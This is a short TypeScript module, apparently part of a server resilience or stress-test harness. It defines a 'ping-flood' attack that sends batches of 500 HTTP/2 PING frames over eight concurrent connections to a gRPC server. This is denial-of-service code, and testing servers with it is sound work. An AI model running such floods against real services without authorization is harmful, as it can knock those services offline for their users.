/** PING frames, each of which the server must answer. */
import { type Attack, flags, flood, frame, Peer, type } from '../wire.ts';

const pings = 500;
const frames = Buffer.concat(Array<Buffer>(pings).fill(frame(type.ping, flags.none, 0, Buffer.alloc(8))));

export const pingFlood: Attack = {
  name: 'ping-flood',
  about: 'PING frames',
  run: ({ grpc }, signal) =>
    flood(
      8,
      signal,
      () => Peer.openHttp2(grpc),
      async (peer) => {
        await peer.write(frames);
        return pings;
      },
    ),
};
